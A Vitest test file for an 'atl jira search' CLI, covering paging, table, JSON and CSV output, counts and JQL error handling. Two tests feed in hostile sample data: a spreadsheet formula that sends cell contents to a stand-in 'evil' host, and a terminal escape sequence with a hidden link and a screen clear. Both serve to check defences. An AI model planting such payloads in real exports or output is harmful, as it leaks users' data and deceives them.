import { describe, expect, test } from 'vitest';
import { FakeHttp, fakeFactory, httpError, runArgv, type FakeRequest } from '../../testkit/fakes.testutil.js';
import type { JiraIssue } from '../../jira/types.js';

function makeIssues(n: number): JiraIssue[] {
  return Array.from({ length: n }, (_, i) => ({
    id: String(10000 + i),
    key: `ABC-${i + 1}`,
    fields: {
      summary: `Issue number ${i + 1}, with "quotes"`,
      issuetype: { name: 'Task' },
      status: { name: i % 2 ? 'Done' : 'To Do' },
      priority: { name: 'Medium' },
      assignee: i % 3 ? { displayName: 'Jane Doe', accountId: 'abc' } : null,
      updated: '2024-05-01T10:20:30.000+0000',
      labels: ['a', 'b'],
    },
  }));
}

/** A Cloud site whose search pages with opaque tokens, as /rest/api/3/search/jql does. */
function cloudSite(issues: JiraIssue[]): FakeHttp {
  return new FakeHttp()
    .optional('POST', '/rest/api/3/search/jql', (r: FakeRequest) => {
      const body = r.body as { nextPageToken?: string; maxResults: number };
      const start = body.nextPageToken ? Number(body.nextPageToken.slice(4)) : 0;
      const page = issues.slice(start, start + body.maxResults);
      const end = start + page.length;
      return end < issues.length ? { issues: page, nextPageToken: `tok-${end}`, isLast: false } : { issues: page, isLast: true };
    })
    .optional('POST', '/rest/api/3/search/approximate-count', () => ({ count: issues.length }));
}

function dcSite(issues: JiraIssue[]): FakeHttp {
  return new FakeHttp('https://jira.example.com').optional('GET', '/rest/api/2/search', (r) => {
    const startAt = Number(r.query.startAt);
    const maxResults = Number(r.query.maxResults);
    return { startAt, maxResults, total: issues.length, issues: issues.slice(startAt, startAt + maxResults) };
  });
}

const NOTICE = /showing (\d+) issues; more match — use --limit N or --all/;

describe('atl jira search (Cloud)', () => {
  test('default limit 50: one request of 50, a table, and the truncation notice', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(120)) });
    const { code } = await runArgv(f, ['jira', 'search', '--project', 'ABC']);
    expect(code).toBe(0);
    const lines = f.out.text.trimEnd().split('\n');
    expect(lines[0]).toBe('KEY\tTYPE\tSTATUS\tPRIORITY\tASSIGNEE\tUPDATED\tSUMMARY');
    expect(lines).toHaveLength(51);
    expect(lines[1]).toBe('ABC-1\tTask\tTo Do\tMedium\t\t2024-05-01 10:20\tIssue number 1, with "quotes"');
    expect(f.err.text).toMatch(NOTICE);
    expect(NOTICE.exec(f.err.text)![1]).toBe('50');
    expect(f.http.requests).toHaveLength(1);
    expect(f.http.requests[0]!.body).toEqual({
      jql: 'project = "ABC" ORDER BY updated DESC',
      fields: ['issuetype', 'status', 'priority', 'assignee', 'updated', 'summary'],
      maxResults: 50,
    });
  });

  test('--all follows nextPageToken in pages of 100 and prints every issue, no notice', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(250)), json: true });
    await runArgv(f, ['jira', 'search', 'project = ABC', '--all']);
    const printed = JSON.parse(f.out.text) as JiraIssue[];
    expect(printed.map((i) => i.key)).toEqual(makeIssues(250).map((i) => i.key));
    expect(printed[0]).toEqual(makeIssues(1)[0]);
    expect(f.err.text).not.toMatch(NOTICE);
    expect(f.http.requests.map((r) => (r.body as { maxResults: number; nextPageToken?: string }).nextPageToken)).toEqual([
      undefined,
      'tok-100',
      'tok-200',
    ]);
    expect(f.http.requests.every((r) => (r.body as { maxResults: number }).maxResults === 100)).toBe(true);
  });

  test('streamed JSON is laid out exactly like a whole-array JSON.stringify', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(3)), json: true });
    await runArgv(f, ['jira', 'search', '--all']);
    expect(f.out.text).toBe(`${JSON.stringify(makeIssues(3), null, 2)}\n`);
    const empty = fakeFactory({ http: cloudSite([]), json: true });
    await runArgv(empty, ['jira', 'search']);
    expect(empty.out.text).toBe('[]\n');
  });

  test('no notice when exactly the limit matches', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(50)) });
    await runArgv(f, ['jira', 'search', '--limit', '50']);
    expect(f.err.text).not.toMatch(NOTICE);
    const g = fakeFactory({ http: cloudSite(makeIssues(51)), json: true });
    await runArgv(g, ['jira', 'search', '--limit', '50']);
    expect(g.err.text).toMatch(NOTICE);
    expect(JSON.parse(g.out.text)).toHaveLength(50);
  });

  test('--csv with --fields: header and quoted cells; notice still on stderr', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(5)) });
    await runArgv(f, ['jira', 'search', '--csv', '--fields', 'summary,labels,updated', '--limit', '2']);
    expect(f.out.text).toBe(
      'KEY,SUMMARY,LABELS,UPDATED\n' +
        'ABC-1,"Issue number 1, with ""quotes""","a, b",2024-05-01T10:20:30.000+0000\n' +
        'ABC-2,"Issue number 2, with ""quotes""","a, b",2024-05-01T10:20:30.000+0000\n',
    );
    expect((f.http.requests[0]!.body as { fields: string[] }).fields).toEqual(['summary', 'labels', 'updated']);
    expect(f.err.text).toMatch(NOTICE);
  });

  test('--csv neutralises cells a spreadsheet would run as formulas; --csv-raw prints them exactly', async () => {
    const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary: '=HYPERLINK("http://evil/?"&A1)', labels: ['@x'] } }];
    const f = fakeFactory({ http: cloudSite(issues) });
    await runArgv(f, ['jira', 'search', '--csv', '--fields', 'summary,labels']);
    expect(f.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"'=HYPERLINK(""http://evil/?""&A1)",'@x\n`);
    const raw = fakeFactory({ http: cloudSite(issues) });
    await runArgv(raw, ['jira', 'search', '--csv-raw', '--fields', 'summary,labels']);
    expect(raw.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"=HYPERLINK(""http://evil/?""&A1)",@x\n`);
    expect((await runArgv(fakeFactory({ json: true }), ['jira', 'search', '--csv-raw'])).code).toBe(2);
  });

  test('--csv on a terminal shows control characters as escapes; piped CSV keeps the exact bytes', async () => {
    const summary = '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007\u001b[2J';
    const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary } }];
    const tty = fakeFactory({ http: cloudSite(issues), tty: true });
    await runArgv(tty, ['jira', 'search', '--csv', '--fields', 'summary']);
    expect(tty.out.text).toBe('KEY,SUMMARY\nABC-1,\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07\\x1b[2J\n');
    const piped = fakeFactory({ http: cloudSite(issues) });
    await runArgv(piped, ['jira', 'search', '--csv', '--fields', 'summary']);
    expect(piped.out.text).toBe(`KEY,SUMMARY\nABC-1,${summary}\n`);
  });

  test('--bom starts the CSV with a UTF-8 byte-order mark (EF BB BF), then the same bytes as without it', async () => {
    const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary: 'Grüße, 日本語' } }];
    const plain = fakeFactory({ http: cloudSite(issues) });
    await runArgv(plain, ['jira', 'search', '--csv', '--fields', 'summary']);
    const bom = fakeFactory({ http: cloudSite(issues) });
    expect((await runArgv(bom, ['jira', 'search', '--csv', '--bom', '--fields', 'summary'])).code).toBe(0);
    expect(Buffer.from(bom.out.text, 'utf8')).toEqual(
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(plain.out.text, 'utf8')]),
    );
    const raw = fakeFactory({ http: cloudSite(issues) });
    await runArgv(raw, ['jira', 'search', '--csv-raw', '--bom', '--fields', 'summary']);
    expect(raw.out.text).toBe('\uFEFFKEY,SUMMARY\nABC-1,"Grüße, 日本語"\n');
  });

  test('--bom without --csv (a table, --json, --count): exit 2 "--bom needs --csv", nothing on stdout', async () => {
    for (const [json, flags] of [
      [false, ['--bom']],
      [true, ['--bom']],
      [false, ['--bom', '--count']],
    ] as const) {
      const f = fakeFactory({ http: cloudSite(makeIssues(3)), json });
      const { code, error } = await runArgv(f, ['jira', 'search', ...flags]);
      expect(code).toBe(2);
      expect(error?.message).toMatch(/^--bom needs (--csv|the CSV listing; --count prints a number)$/);
      expect(f.out.text).toBe('');
    }
    const table = await runArgv(fakeFactory({ http: cloudSite(makeIssues(3)) }), ['jira', 'search', '--bom']);
    expect(table.error?.message).toBe('--bom needs --csv');
  });

  test('--count uses approximate-count without the ORDER BY, and says it is approximate (~N; "approximate": true)', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(77)) });
    await runArgv(f, ['jira', 'search', '--project', 'ABC', '--count']);
    expect(f.out.text).toBe('~77\n');
    expect(f.http.requests).toEqual([
      { method: 'POST', path: '/rest/api/3/search/approximate-count', query: {}, body: { jql: 'project = "ABC"' } },
    ]);
    const json = fakeFactory({ http: cloudSite(makeIssues(77)), json: true });
    await runArgv(json, ['jira', 'search', '--project', 'ABC', '--count']);
    expect(JSON.parse(json.out.text)).toEqual({ count: 77, approximate: true });
  });

  test('--debug prints the JQL; bad flags are usage errors', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(1)), debug: true });
    await runArgv(f, ['jira', 'search', '--assignee', 'me', '--created', 'week']);
    expect(f.err.text).toContain('jql: assignee = currentUser() AND created >= startOfWeek() ORDER BY updated DESC');
    expect((await runArgv(fakeFactory(), ['jira', 'search', '--limit', '0'])).code).toBe(2);
    expect((await runArgv(fakeFactory(), ['jira', 'search', 'x', '--jql', 'y'])).code).toBe(2);
    expect((await runArgv(fakeFactory({ json: true }), ['jira', 'search', '--csv'])).code).toBe(2);
  });
});

describe('unbounded JQL refused by the server', () => {
  const unbounded = 'Unbounded JQL queries are not allowed here. Please add a search restriction to your query. (HTTP 400)';
  const refusing = () =>
    new FakeHttp()
      .optional('POST', '/rest/api/3/search/jql', () => {
        throw httpError(400, unbounded);
      })
      .optional('POST', '/rest/api/3/search/approximate-count', () => {
        throw httpError(400, unbounded);
      });

  test('listing and --count: exit 2 with a hint naming the flags, nothing on stdout', async () => {
    for (const flags of [[], ['--count']]) {
      const f = fakeFactory({ http: refusing() });
      const { code, error } = await runArgv(f, ['jira', 'search', ...flags]);
      expect(code).toBe(2);
      expect(error?.message).toMatch(/no restriction/);
      expect(error?.hint).toMatch(/--project KEY, --assignee me, .* or a JQL restriction/);
      expect(error?.status).toBe(400);
      expect(f.out.text).toBe('');
    }
  });

  test('other 400s pass through untouched', async () => {
    const f = fakeFactory({
      http: new FakeHttp().on('POST', '/rest/api/3/search/jql', () => {
        throw httpError(400, "Error in the JQL Query: Expecting a field name but got 'AND'. (HTTP 400)");
      }),
    });
    const { code, error } = await runArgv(f, ['jira', 'search', 'project = A AND']);
    expect(code).toBe(2);
    expect(error?.message).toMatch(/^Error in the JQL Query/);
    expect(error?.hint).toBeUndefined();
  });
});

describe('a JQL error is reported against the JQL the user typed (issue 11 item 2)', () => {
  const jqlSent = (f: { http: FakeHttp }) => f.http.requests.map((r) => (r.body as { jql: string }).jql);

  test('refused with the ORDER BY atl added, and alone too: the error for their own JQL is shown', async () => {
    const f = fakeFactory({
      http: new FakeHttp().on('POST', '/rest/api/3/search/jql', (r) => {
        const { jql } = r.body as { jql: string };
        throw httpError(
          400,
          jql.includes('ORDER BY')
            ? "Error in the JQL Query: 'ORDER' is a reserved JQL word. You must surround it in quotation marks to use it in a query. (line 1, character 17)"
            : 'Error in the JQL Query: Expecting a field name at the end of the query.',
        );
      }),
    });
    const { code, error } = await runArgv(f, ['jira', 'search', 'project = A AND']);
    expect(code).toBe(2);
    expect(error?.message).toBe('Error in the JQL Query: Expecting a field name at the end of the query.');
    expect(jqlSent(f)).toEqual(['project = A AND ORDER BY updated DESC', 'project = A AND']);
    expect((f.http.requests[1]!.body as { maxResults: number }).maxResults).toBe(1);
  });

  test('valid alone: the first error stands, and the hint shows the JQL atl sent', async () => {
    const f = fakeFactory({
      http: new FakeHttp().on('POST', '/rest/api/3/search/jql', (r) => {
        if ((r.body as { jql: string }).jql === 'project = A') return { issues: [], isLast: true };
        throw httpError(400, "Field 'nosuch' does not exist or you do not have permission to view it.");
      }),
    });
    const { code, error } = await runArgv(f, ['jira', 'search', '--jql', 'project = A', '--order-by', 'nosuch']);
    expect(code).toBe(2);
    expect(error?.message).toBe("Field 'nosuch' does not exist or you do not have permission to view it.");
    expect(error?.hint).toBe('your JQL alone is valid; atl sent it as: project = A ORDER BY nosuch DESC');
  });

  test('no JQL of the user (flags only): nothing to send again', async () => {
    const f = fakeFactory({
      http: new FakeHttp().on('POST', '/rest/api/3/search/jql', () => {
        throw httpError(400, "The value 'Nope' does not exist for the field 'status'.");
      }),
    });
    const { code, error } = await runArgv(f, ['jira', 'search', '-s', 'Nope']);
    expect(code).toBe(2);
    expect(error?.message).toBe("The value 'Nope' does not exist for the field 'status'.");
    expect(f.http.requests).toHaveLength(1);
  });
});

describe('atl jira search (Data Center)', () => {
  test('GET /rest/api/2/search with startAt/maxResults; --all gets everything', async () => {
    const f = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(234)), json: true });
    await runArgv(f, ['jira', 'search', '--all', '--status', 'Done']);
    expect(JSON.parse(f.out.text)).toHaveLength(234);
    expect(f.http.requests.map((r) => [r.query.startAt, r.query.maxResults])).toEqual([
      [0, 100],
      [100, 100],
      [200, 100],
    ]);
    expect(f.http.requests[0]!.query.jql).toBe('status = "Done" ORDER BY updated DESC');
    expect(f.err.text).not.toMatch(NOTICE);
  });

  test('truncation notice from total; --count reads total', async () => {
    const f = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)) });
    await runArgv(f, ['jira', 'search', '--limit', '120']);
    expect(f.out.text.trimEnd().split('\n')).toHaveLength(121);
    expect(NOTICE.exec(f.err.text)![1]).toBe('120');
    const c = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)) });
    await runArgv(c, ['jira', 'search', '--count']);
    expect(c.out.text).toBe('130\n');
    const json = fakeFactory({ deployment: 'datacenter', http: dcSite(makeIssues(130)), json: true });
    await runArgv(json, ['jira', 'search', '--count']);
    expect(JSON.parse(json.out.text)).toEqual({ count: 130, approximate: false });
  });
});

describe('atl jira sprint issues', () => {
  test('searches the sprint with the same output', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(2)) });
    await runArgv(f, ['jira', 'sprint', 'issues', '42']);
    expect((f.http.requests[0]!.body as { jql: string }).jql).toBe('sprint = 42 ORDER BY updated DESC');
    expect(f.out.text.split('\n')[0]).toBe('KEY\tTYPE\tSTATUS\tPRIORITY\tASSIGNEE\tUPDATED\tSUMMARY');
    expect((await runArgv(fakeFactory(), ['jira', 'sprint', 'issues', 'x'])).code).toBe(2);
  });
});

describe('through argv, as atl parses it (the declarations and their defaults are tested too)', () => {
  test('`jira search -P ABC`: the declared default limit of 50, the table and the notice', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(120)) });
    const { code } = await runArgv(f, ['jira', 'search', '-P', 'ABC']);
    expect(code).toBe(0);
    expect(f.http.requests).toHaveLength(1);
    expect(f.http.requests[0]!.body).toMatchObject({ jql: 'project = "ABC" ORDER BY updated DESC', maxResults: 50 });
    expect(f.out.text.trimEnd().split('\n')).toHaveLength(51);
    expect(NOTICE.exec(f.err.text)![1]).toBe('50');
  });

  test('`--json --csv`: exit 2 with the one conflict message, nothing requested', async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(3)) });
    const { code, error } = await runArgv(f, ['jira', 'search', '-P', 'ABC', '--json', '--csv']);
    expect(code).toBe(2);
    expect(error?.message).toBe('--json and --csv cannot be used together');
    expect(f.http.requests).toHaveLength(0);
  });

  test("an unknown flag is a usage error pointing at the command's help", async () => {
    const f = fakeFactory({ http: cloudSite(makeIssues(1)) });
    const { code, error } = await runArgv(f, ['jira', 'search', '--nope']);
    expect(code).toBe(2);
    expect(error?.hint).toBe("run 'atl jira search --help'.");
  });
});

describe('conflicting listing flags', () => {
  test.each([
    [['--all', '--limit', '5'], '--all and --limit'],
    [['--count', '--csv'], '--count and --csv'],
    [['--count', '--all'], '--count and --all'],
    [['--count', '--fields', 'summary'], '--count and --fields'],
  ])('%j: exit 2 naming both flags, nothing sent', async (flags, named) => {
    const f = fakeFactory({ http: cloudSite(makeIssues(3)) });
    const { code, error } = await runArgv(f, ['jira', 'search', '-P', 'ABC', ...flags]);
    expect(code).toBe(2);
    expect(error?.message).toBe(`${named} cannot be used together`);
    expect(f.http.requests).toEqual([]);
  });

  test('the default --limit does not conflict with --all or --count', async () => {
    for (const flag of ['--all', '--count']) {
      const f = fakeFactory({ http: cloudSite(makeIssues(3)), json: true });
      expect((await runArgv(f, ['jira', 'search', '-P', 'ABC', flag])).code).toBe(0);
    }
  });
});
